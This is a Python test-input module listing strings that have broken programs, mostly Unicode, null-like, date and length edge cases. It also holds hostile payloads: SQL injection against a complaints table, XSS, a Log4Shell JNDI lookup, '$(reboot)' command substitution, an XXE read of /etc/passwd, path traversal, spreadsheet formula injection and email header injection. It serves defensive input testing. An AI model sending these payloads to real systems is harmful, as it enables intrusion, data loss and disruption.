"""Strings that have broken programs before: every door must keep each whole or refuse it in a sentence."""

NASTY: tuple[str, ...] = (
    # signs that mean something to the layers below
    "'", '"', "\\", "\\\\", "%", "%s %d %(name)s %n", "{}", "{0}", "{{ 7*7 }}", "{% load i18n %}", "${jndi:ldap://x.example/a}", "$(reboot)",
    "`id`", "; DROP TABLE complaints_complaint; --", "' OR '1'='1", "1;SELECT pg_sleep(9)", "admin'--", "\\'; --", "$$; --", "E'\\\\000'",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "</textarea><b>x</b>", "</title><b>x",
    "<!-- ", "-->", "<![CDATA[x]]>", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "&lt;b&gt;",
    "&amp;amp;", "javascript:alert(1)", "data:text/html,<b>x</b>", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd",
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=HYPERLINK(\"http://x.example\",\"点\")", "\t=1+1",
    "#let x = 1", "#import \"x\"", "*bold* _it_ `raw` $ x^2 $", "<label>", "@ref", "= Title", "//comment", "\\u{1F600}", "#{", "]",
    # what stands for nothing
    "null", "None", "nil", "undefined", "NaN", "true", "false", "0", "-0", "-1", "00", "1e309", "0x10", "９９９", "１２．５", "1,2,3", "Infinity",
    "-", "—", "…", ".", "..", "/", "//", "?", "&", "#", "?a=1&b=2#c", "%00", "%2e%2e%2f", "%E4%BD", "\\x00", "\\0",
    # scripts, directions, signs that nobody sees
    "陈小满\u200b", "\u202eabc\u202c", "a\u0301\u0301\u0301\u0301\u0301\u0301", "Z̮̞̠͙͔ͅa̷͙ͭͫl̥̞g̟͙̼o͈̟", "\ufeffBOM", "한국어", "ไทยดีมาก",
    "العربية ١٢٣", "עברית", "हिन्दी", "𠮷野家𩸽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇨🇳🇨", "\U0001f4a9", "１２３ＡＢＣ", "ﷺ", "İıŞşĞğ", "ß", "ǅ", "ﬀ", "Å", "Ω",
    "\u2028line\u2029paragraph", "a\u00a0b", "a\u3000b", "\u00ad", "\u3164", "\u115f", "\ue000", "\ufdd0", "\U000e0041", "a\u180eb", "\x7f", "\x85x",
    "\x00", "a\x00b", "\x01\x02", "\x1b[31mred", "\x08\x08", "tab\there", "line\r\nline", "line\rline", "\n\n\nx", "  spaces  ",
    # shapes
    "x" * 300, "字" * 301, "a " * 200, "\n" * 80, "😀" * 130, "a" * 70 + "." + "b" * 70, "http://" + "a" * 250, "(" * 120, "[" * 120, "<" * 120,
    "1" * 50, "0" * 11, "138" * 20, "a@b", "a@b@c.cn", "@", "x@x.x\r\nBcc: y@y.y", "\"a b\"@x.cn", "user@例子.公司", "1900-01-01", "2100-12-31",
    "0000-00-00", "2026-02-30", "99:99", "25:61", "12-31-2026",
)  # fmt: skip
